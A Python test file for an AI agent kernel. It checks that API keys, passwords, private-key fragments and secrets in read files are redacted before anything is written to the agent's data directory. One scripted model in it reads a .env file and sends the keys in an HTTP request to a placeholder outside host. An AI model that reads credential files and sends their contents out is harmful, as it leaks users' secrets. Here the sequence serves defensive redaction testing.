"""A key given as a tool argument and a secret file read by a tool never reach the disk.

The task runs through the real kernel and SQLite stores (events, spans, checkpoints,
memories with their vectors); afterwards every file of the data directory is searched for
the secrets' bytes.
"""

import json
from collections.abc import Sequence
from pathlib import Path

import pytest

from core_agent.container import KernelContainer
from providers.scripted_gateway import ScriptedLLMGateway, ScriptedToolCall, ScriptedTurn
from shared.agent_protocol import ChatMessage, TaskRequest, TaskStatus, ToolMessage

pytestmark = pytest.mark.anyio

HOST_KEY = "host-credential-3f9a8b7c6d5e"
FILE_KEY = "sk-proj-" + "Zq81" * 10
PATTERN_SECRET = "ACME-778899"


def leaky_model(messages: Sequence[ChatMessage]) -> ScriptedTurn:
    done = {m.name for m in messages if isinstance(m, ToolMessage)}
    if "read_file" not in done:
        return call("read_file", path=".env")
    if "remember" not in done:
        return call("remember", key="credentials", value=f"{FILE_KEY} and {HOST_KEY}")
    if "http_fetch" not in done:
        return call("http_fetch", url=f"https://example.invalid/?key={HOST_KEY}&t={PATTERN_SECRET}")
    return ScriptedTurn(content=f"The key is {FILE_KEY}.")


def call(name: str, **arguments: str) -> ScriptedTurn:
    return ScriptedTurn(tool_calls=[ScriptedToolCall(name=name, arguments=arguments)])


async def test_no_secret_reaches_any_file_of_the_data_directory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", HOST_KEY)
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / ".env").write_text(f"OPENAI_API_KEY={FILE_KEY}\nTOKEN={PATTERN_SECRET}\n")
    data = tmp_path / "data"
    container = KernelContainer()
    container.settings.override(
        container.settings().model_copy(
            update={
                "workspace_roots": (workspace,),
                "data_dir": data,
                "redact_patterns": (r"ACME-\d{6}",),
            }
        )
    )
    container.llm_gateway.override(ScriptedLLMGateway(policy=leaky_model))
    approvals = []

    def approve(request):  # the human approves the risky calls: secrets must still not land
        from shared.agent_protocol import ApprovalDecision

        approvals.append(request)
        return ApprovalDecision(request_id=request.request_id, approved=True)

    kernel = container.kernel()
    kernel.set_approval_callback(approve)
    async with kernel:
        result = await kernel.execute_task(
            TaskRequest(task="Check my settings.", force_mode="react")
        )
    assert result.status is TaskStatus.SUCCEEDED
    assert FILE_KEY in (result.output or "")  # the host gets its answer; the disk does not
    assert approvals, "the tainted write and fetch were asked about"
    stored = b"".join(path.read_bytes() for path in data.rglob("*") if path.is_file())
    assert stored, "the stores wrote nothing at all"
    for secret in (HOST_KEY, FILE_KEY, PATTERN_SECRET):
        assert secret.encode() not in stored, f"{secret} reached the data directory"
    assert b"[REDACTED]" in stored


@pytest.mark.parametrize("password", ['Tr0ub4dor"&3xyz', r"C:\keys\Tr0ub4dor3", "长城长城长城长城"])
async def test_a_host_password_json_escapes_never_reaches_the_data_directory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, password: str
) -> None:
    # A quote or a backslash is escaped in the JSON of a model: the model's JSON was
    # searched for the password as it is, found nothing, and the model was stored whole.
    monkeypatch.setenv("DB_PASSWORD", password)
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / "db.conf").write_text(f"user=app\npassword={password}\n")
    data = tmp_path / "data"
    container = KernelContainer()
    container.settings.override(
        container.settings().model_copy(update={"workspace_roots": (workspace,), "data_dir": data})
    )
    container.llm_gateway.override(
        ScriptedLLMGateway(
            [
                call("read_file", path="db.conf"),
                # In the arguments too: the ledger keeps them as JSON text, escaped.
                call("read_file", path=f"{password}.conf"),
                ScriptedTurn(content=f"The password is {password}"),
            ]
        )
    )
    async with container.kernel() as kernel:
        result = await kernel.execute_task(TaskRequest(task="Read db.conf.", force_mode="react"))
    assert result.status is TaskStatus.SUCCEEDED
    assert password in (result.output or "")
    stored = b"".join(path.read_bytes() for path in data.rglob("*") if path.is_file())
    spellings = {
        password,
        json.dumps(password)[1:-1],
        json.dumps(password, ensure_ascii=False)[1:-1],
    }
    for spelling in spellings:
        assert spelling.encode() not in stored, f"{spelling} reached the data directory"
    assert b"[REDACTED]" in stored


async def test_a_private_key_cut_before_its_end_line_never_reaches_the_data_directory(
    tmp_path: Path,
) -> None:
    # The pattern wanted BEGIN ... END: the first lines of a key (head -n 3) were stored.
    body = [
        "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW",
        "QyNTUxOQAAACA++/3YNUXG8PX/anLl0BYzvDArR9QpTv5IFaluoiFgzwAAAJAaHchPGh3I",
    ]
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / "deploy.log").write_text(
        "$ head -n 3 deploy_key\n-----BEGIN OPENSSH PRIVATE KEY-----\n" + "\n".join(body) + "\n"
    )
    data = tmp_path / "data"
    container = KernelContainer()
    container.settings.override(
        container.settings().model_copy(update={"workspace_roots": (workspace,), "data_dir": data})
    )
    container.llm_gateway.override(
        ScriptedLLMGateway(
            [call("read_file", path="deploy.log"), ScriptedTurn(content="The log shows a key.")]
        )
    )
    async with container.kernel() as kernel:
        result = await kernel.execute_task(TaskRequest(task="Read deploy.log.", force_mode="react"))
    assert result.status is TaskStatus.SUCCEEDED
    stored = b"".join(path.read_bytes() for path in data.rglob("*") if path.is_file())
    for line in body:
        assert line.encode() not in stored, f"{line} reached the data directory"
    assert b"[REDACTED]" in stored


@pytest.mark.parametrize(
    ("arguments", "secret"),
    [
        # ``密码：…`` as servers built on Python's json.dumps send it: every Chinese
        # character a \uXXXX escape, the label invisible to a search of the text.
        (r'{"expression": "1+1", "note": "\u5bc6\u7801\uff1aMIMA-9f8e7d6c"}', "MIMA-9f8e7d6c"),
        # A quoted password inside a JSON string: the quote is \" in the text.
        (r'{"expression": "1+1", "note": "login password: \"PW-q-4d3c2b1a\""}', "PW-q-4d3c2b1a"),
        # A member named like a secret, in any case, whatever its value starts with.
        (r'{"expression": "1+1", "password": "PW-m-5e6f7a8b"}', "PW-m-5e6f7a8b"),
        (r'{"expression": "1+1", "clientSecret": "\"S-6a7b8c9d"}', "S-6a7b8c9d"),
    ],
)
async def test_a_secret_in_the_json_text_of_a_models_call_never_reaches_the_data_directory(
    tmp_path: Path, arguments: str, secret: str
) -> None:
    # The model's arguments come as JSON text through litellm and a real HTTP server: the
    # parsed arguments were redacted, the text the model sent (raw_arguments, the spans'
    # arguments, the exports) was searched as text and kept the secret.
    from core_agent import create_kernel
    from core_agent.contracts.settings import AgentSettings
    from support.openai_server import OpenAIServer

    data = tmp_path / "data"
    with OpenAIServer() as server:
        settings = AgentSettings(
            data_dir=data,
            model="openai/local",
            model_api_base=server.base_url,
            model_api_key="sk-local",
            model_max_retries=0,
        )
        server.reply(tool_calls=[{"name": "calculator", "arguments": arguments}])
        server.reply("2")
        async with create_kernel(settings) as kernel:
            result = await kernel.execute_task(TaskRequest(task="1+1?", force_mode="react"))
    assert result.status is TaskStatus.SUCCEEDED, result.error
    stored = b"".join(path.read_bytes() for path in data.rglob("*") if path.is_file())
    assert b"calculator" in stored, "the call was stored"
    assert secret.encode() not in stored, f"{secret} reached the data directory"
    assert b"[REDACTED]" in stored


async def test_secrets_in_files_a_tool_reads_never_reach_the_data_directory(
    tmp_path: Path,
) -> None:
    # The model's copy of a tool result is wrapped in a note (untrusted data): JSON inside
    # it was never decoded, so escaped labels and secret-named members were stored whole.
    secrets = ["MIMA-5a6b7c8d", "YAML-1a2b3c4d", "TOML-9e8d7c6b", "NUM-770011223344"]
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / "a.json").write_text(json.dumps({"密码": secrets[0], "n": 1}))
    (workspace / "b.yaml").write_text(f"db:\n  api_key: {secrets[1]}\n  host: x\n")
    (workspace / "c.toml").write_text(f'[app]\nsecret_key = "{secrets[2]}"\n')
    (workspace / "d.json").write_text('{"password": 770011223344}')
    data = tmp_path / "data"
    container = KernelContainer()
    container.settings.override(
        container.settings().model_copy(update={"workspace_roots": (workspace,), "data_dir": data})
    )
    container.llm_gateway.override(
        ScriptedLLMGateway(
            [
                *(call("read_file", path=n) for n in ("a.json", "b.yaml", "c.toml", "d.json")),
                ScriptedTurn(content="read"),
            ]
        )
    )
    async with container.kernel() as kernel:
        result = await kernel.execute_task(TaskRequest(task="Read them.", force_mode="react"))
    assert result.status is TaskStatus.SUCCEEDED, result.error
    stored = b"".join(path.read_bytes() for path in data.rglob("*") if path.is_file())
    for secret in [*secrets[:3], "770011223344"]:
        assert secret.encode() not in stored, f"{secret} reached the data directory"


async def test_a_secret_across_the_cut_of_a_long_result_never_reaches_the_data_directory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A tool result longer than the model may read is cut; a cut through a key would keep a
    head of it that redaction no longer recognises. Keys run back to back where both cuts
    fall (wherever the untrusted-data fence puts them): one of them is always cut across."""
    monkeypatch.setenv("OPENAI_API_KEY", HOST_KEY)
    workspace = tmp_path / "ws"
    workspace.mkdir()
    keys = HOST_KEY * 40
    (workspace / "dump.log").write_text(keys + "\n" + "log line\n" * 2000 + keys)
    data = tmp_path / "data"
    container = KernelContainer()
    container.settings.override(
        container.settings().model_copy(
            update={
                "workspace_roots": (workspace,),
                "data_dir": data,
                "max_observation_chars": 1000,
            }
        )
    )
    container.llm_gateway.override(
        ScriptedLLMGateway([call("read_file", path="dump.log"), ScriptedTurn(content="Read.")])
    )
    async with container.kernel() as kernel:
        result = await kernel.execute_task(TaskRequest(task="Read dump.log.", force_mode="react"))
    assert result.status is TaskStatus.SUCCEEDED
    stored = b"".join(path.read_bytes() for path in data.rglob("*") if path.is_file())
    assert b"characters truncated" in stored
    pieces = {HOST_KEY[i : i + 8] for i in range(len(HOST_KEY) - 7)}
    kept = [piece for piece in pieces if piece.encode() in stored]
    assert kept == [], f"parts of a cut key reached the data directory: {kept}"
